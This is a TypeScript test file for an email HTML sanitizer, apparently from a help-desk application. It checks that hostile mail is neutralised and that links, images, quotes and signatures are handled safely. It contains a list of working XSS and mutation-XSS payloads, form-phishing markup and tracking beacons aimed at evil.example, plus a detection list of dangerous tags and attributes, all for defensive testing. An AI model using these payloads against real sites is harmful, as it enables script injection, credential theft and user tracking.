import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cleanHtml } from "#src/parts/message-html/clean-html.ts";
import { foldQuotes, foldSignature } from "#src/parts/message-html/fold-quotes.ts";
import { frameDocument } from "#src/parts/message-html/frame-document.ts";
import { prepareMail } from "#src/parts/message-html/prepare-mail.ts";
import { rewriteImages } from "#src/parts/message-html/rewrite-images.ts";
import { rewriteLinks } from "#src/parts/message-html/rewrite-links.ts";

const cautious = {
  embedded: () => null,
  remote: null,
  showsDestinations: true,
  quoteLabel: "Quoted",
  signatureLabel: "Signature",
};
const prepare = (html: string) => prepareMail(html, cautious).body;

function fragmentOf(html: string): DocumentFragment {
  const template = document.createElement("template");
  template.innerHTML = html;
  return template.content;
}

/** Everything in the parsed result that could run, navigate, submit or fetch. */
function dangersOf(html: string): string[] {
  const dangers: string[] = [];
  for (const element of fragmentOf(html).querySelectorAll("*")) {
    const name = element.localName;
    if (
      /^(?:script|style|link|meta|base|iframe|frame|object|embed|form|input|button|svg|math|audio|video|source|template|select|textarea)$/.test(
        name,
      )
    )
      dangers.push(`<${name}>`);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith("on")) dangers.push(`${name}[${attribute}]`);
      if (/^(?:srcset|background|poster|action|formaction|ping|data|usemap|srcdoc|name)$/.test(attribute))
        dangers.push(`${name}[${attribute}]`);
      if (attribute === "style" && /url|@|expression|\\|position/i.test(value))
        dangers.push(`style=${value}`);
      if (attribute === "href" && !/^(?:https?:|mailto:)/i.test(value)) dangers.push(`href=${value}`);
      if (attribute === "src" && !/^data:image\/(?:png|jpeg|gif)/i.test(value)) dangers.push(`src=${value}`);
    }
  }
  return dangers;
}

const hostile = [
  `<script>top.steal()</script><b>hello</b>`,
  `<img src=x onerror="top.steal()">`,
  `<svg><animate onbegin=steal() attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">`,
  `<form action="https://evil.example"><input name=password><button formaction="javascript:steal()">Sign in</button></form>`,
  `<a href="javascript:steal()">x</a><a href="data:text/html,<script>steal()</script>">y</a><a href="vbscript:x">z</a>`,
  `<a href="&#106;avascript&colon;steal()">x</a><a href=" \u0001javascript:steal()">y</a><a href="jav&#x09;ascript:steal()">z</a>`,
  `<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"; body{background:url(//evil.example)}</style>`,
  `<div style="background:url('https://evil.example/a.gif'); color: red">x</div>`,
  `<div style="background:u\\72l(//evil.example/a.gif)">x</div>`,
  `<div style="background-image:image-set('https://evil.example/a.gif' 1x)">x</div>`,
  `<p style="position:fixed;inset:0;z-index:9">cover</p>`,
  `<table background="https://evil.example/a.gif"><tr><td background="//evil.example/b.gif">x</td></tr></table>`,
  `<img srcset="https://evil.example/a.gif 2x" src="data:image/svg+xml,<svg onload=steal()>">`,
  `<img src="/api/v1/remote-image?url=https://evil.example/track.gif">`,
  `<video poster="https://evil.example/p.jpg" src="https://evil.example/v.mp4" autoplay></video><audio src="//evil.example/a.mp3">`,
  `<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>`,
  `<template><img src=x onerror=steal()></template><noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>`,
  `<x-style><img src=x onerror=steal()></x-style><sTyLe/><img src=x onerror=steal()>`,
  `<div id="body" name="cookie"><img name="body" src="https://evil.example/1"></div>`,
  `<details open ontoggle=steal()>x</details><div onpointerrawupdate=steal()>y</div>`,
  `<a href="#top" ping="https://evil.example/ping" target="_top">in the page</a>`,
];

it("is empty or whole where the mail is a page of frames", () => {
  expect(prepare("<frameset><frame src='https://evil.example'></frameset>")).not.toContain("evil.example");
  expect(prepare("<html><frameset><p>Dear customer</p></frameset>")).toContain("Dear customer");
  expect(cleanHtml("").childNodes).toHaveLength(0);
});

describe("a hostile mail", { timeout: 30_000 }, () => {
  it.each(hostile)("leaves nothing that runs, submits or fetches: %s", (html) => {
    expect(dangersOf(prepare(html))).toEqual([]);
  });

  it("stays harmless however its pieces are put together", () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        "<",
        ">",
        "<!--",
        "-->",
        "</p>",
        '"',
        "<b>",
        "</title>",
        "<table>",
        "</style>",
        "<![CDATA[",
        "&lt;script&gt;",
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = prepare(pieces.join(""));
        expect(dangersOf(once)).toEqual([]);
        // Written and parsed once more, as the frame does, it must not turn into something else.
        const again = document.createElement("template");
        again.content.append(fragmentOf(once));
        expect(dangersOf(again.innerHTML)).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  it("keeps what people read, with its harmless formatting", () => {
    const body = prepare(
      `<table width="600"><tr><td bgcolor="#eeeeee" style="color:#333;padding:4px"><b>August</b></td></tr></table>`,
    );
    const cell = fragmentOf(body).querySelector("td");
    expect(cell?.textContent).toBe("August");
    expect(cell?.getAttribute("style")).toBe("color: #333; padding: 4px");
    expect(fragmentOf(body).querySelector("table")?.getAttribute("width")).toBe("600");
  });

  it("cannot leave its frame through the title of the document", () => {
    const page = frameDocument({
      body: "<p>x</p>",
      title: `</title><script>steal()</script>`,
      language: `en"><script>`,
    });
    expect(page).not.toContain("<script>");
    expect(page.indexOf("Content-Security-Policy")).toBeLessThan(page.indexOf("<body>"));
  });
});

describe("a link in a mail", () => {
  const rewritten = (html: string) => {
    const root = cleanHtml(html);
    rewriteLinks(root, true);
    return root;
  };

  it("opens apart from the desk and says where it really leads", () => {
    const root = rewritten(
      `<a href="https://hosh1no-verify.example/login">https://hoshino.example/login</a>`,
    );
    const link = root.querySelector("a");
    expect(link?.rel).toBe("noopener noreferrer nofollow");
    expect(link?.target).toBe("_blank");
    expect(root.querySelector("[data-desk='false-destination']")?.textContent).toBe("hosh1no-verify.example");
  });

  it("is not doubled when its words already say where it leads", () => {
    expect(
      rewritten(`<a href="https://www.hoshino.example/fees">hoshino.example</a>`).querySelector(
        "[data-desk]",
      ),
    ).toBeNull();
  });

  it("hides no other place behind a user name", () => {
    const link = rewritten(`<a href="https://hoshino.example@evil.example/">help</a>`).querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil.example/");
  });
});

describe("a picture in a mail", () => {
  const mail = `<img src="https://news.example/banner.png" alt="Banner"><img src="cid:logo%40mail" alt="Logo"><img src="https://news.example/open.gif" width="1" height="1">`;

  it("is not fetched before the agent agrees, and a beacon never", () => {
    const root = cleanHtml(mail);
    expect(
      rewriteImages(root, {
        embedded: (id) => (id === "logo@mail" ? "/api/v1/attachments/a1/content" : null),
        remote: null,
      }),
    ).toBe(1);
    expect(root.querySelector("[data-desk='blocked-image']")?.textContent).toBe("Banner");
    expect([...root.querySelectorAll("img")].map((image) => image.getAttribute("src"))).toEqual([
      "/api/v1/attachments/a1/content",
    ]);
  });

  it("comes only through the server once the agent has agreed", () => {
    const root = cleanHtml(mail);
    rewriteImages(root, {
      embedded: () => null,
      remote: (url) => `/api/v1/remote-image?url=${encodeURIComponent(url)}`,
    });
    expect(root.querySelector("img")?.getAttribute("src")).toBe(
      "/api/v1/remote-image?url=https%3A%2F%2Fnews.example%2Fbanner.png",
    );
  });
});

describe("quoted history in a mail", () => {
  const folded = (html: string) => {
    const root = fragmentOf(html);
    foldQuotes(root, "Quoted");
    return root.querySelector("details");
  };

  it("is folded behind a mark that opens without a script", () => {
    const quote = folded(
      `<p>Thanks!</p><div class="gmail_quote">On Friday Aiko wrote: <blockquote>Hello</blockquote></div>`,
    );
    expect(quote?.querySelector("summary")?.getAttribute("aria-label")).toBe("Quoted");
    expect(quote?.textContent).toContain("Hello");
  });

  it("takes everything behind Outlook's mark", () => {
    expect(
      folded(
        `<p>Yes.</p><div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From: Aiko</div><p>Hello</p>`,
      )?.textContent,
    ).toContain("Hello");
  });

  it("stays open when it is a forwarded mail or all there is", () => {
    expect(
      folded(
        `<p>Is this real?</p><div class="gmail_quote">---------- Forwarded message ---------<br>From: evil</div>`,
      ),
    ).toBeNull();
    expect(folded(`<div class="gmail_quote">only this</div>`)).toBeNull();
  });
});

describe("who signs a mail", () => {
  const folded = (html: string) => {
    const root = fragmentOf(html);
    foldQuotes(root, "Quoted");
    foldSignature(root, "Signature");
    return [...root.querySelectorAll("details")].map((one) => one.querySelector("summary")?.ariaLabel);
  };
  const signed = `<div class="gmail_signature">Marco Bianchi<br>Via Roma 1</div>`;
  const quote = `<div class="gmail_quote">On Friday Aiko wrote: <blockquote>Hello</blockquote></div>`;

  it("is folded beside the quoted mail, one click away", () => {
    expect(folded(`<p>Thanks!</p>${signed}${quote}`)).toEqual(["Signature", "Quoted"]);
    expect(folded(`<p>Thanks!</p><pre class="moz-signature">-- <br>Marco</pre>`)).toEqual(["Signature"]);
  });

  it("stays in sight where the mail says nothing else, and is folded once in what is quoted", () => {
    expect(folded(signed)).toEqual([]);
    expect(folded(`${signed}${quote}`)).toEqual(["Quoted"]);
    expect(folded(`<p>Thanks!</p><div class="gmail_quote">On Friday: ${signed}</div>`)).toEqual(["Quoted"]);
  });
});
